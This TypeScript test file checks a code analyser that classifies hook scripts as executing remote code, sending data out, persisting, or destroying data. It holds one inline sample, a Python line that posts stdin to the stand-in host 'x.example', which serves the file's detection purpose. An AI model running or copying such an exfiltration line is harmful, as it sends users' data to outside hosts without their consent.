import { expect, test } from "vitest";
import { harmfulJavaScript, harmfulPython } from "../testing/harmful-scripts.ts";
import { codeFacts } from "./code-facts.ts";
import type { CommandContext, FactKind } from "../shell/command-fact.ts";

async function kindsIn(
  text: string,
  language: "python" | "typescript",
): Promise<readonly FactKind[]> {
  const facts = await codeFacts({ path: "a", text, language }, { told: "calls" });
  return facts.map(({ fact }) => fact.kind);
}

const kinds: readonly (readonly [string, FactKind])[] = [
  ["EXE-001", "elsewhere"],
  ["EXF-001", "sends"],
  ["PERS-001", "lasting"],
  ["SELF-001", "lasting"],
  ["DEST-001", "lasting"],
];

test.for(
  kinds.flatMap(([signal, kind]) => [
    ...(harmfulPython[signal] ?? []).map((text) => [signal, kind, "python", text] as const),
    ...(harmfulJavaScript[signal] ?? []).map((text) => [signal, kind, "typescript", text] as const),
  ]),
)(
  "the script of a hook is told by what it does: %s is %s in %s: %s",
  async ([, kind, language, text]) => {
    expect(await kindsIn(text, language)).toContain(kind);
  },
);

const sendsTold =
  "import sys, requests\nrequests.post('https://x.example', data=sys.stdin.read())\n";

test.each([
  ["calls", ["sends high"]],
  ["news", ["sends medium"]],
  ["nothing", []],
] as const)(
  "what a script is told weighs by what it hears: %s (TOLD-001)",
  async (told, expected) => {
    const context: CommandContext = { told };
    const facts = await codeFacts({ path: "a", text: sendsTold, language: "python" }, context);
    expect(facts.map(({ fact }) => `${fact.kind} ${fact.severity}`)).toEqual(expected);
  },
);
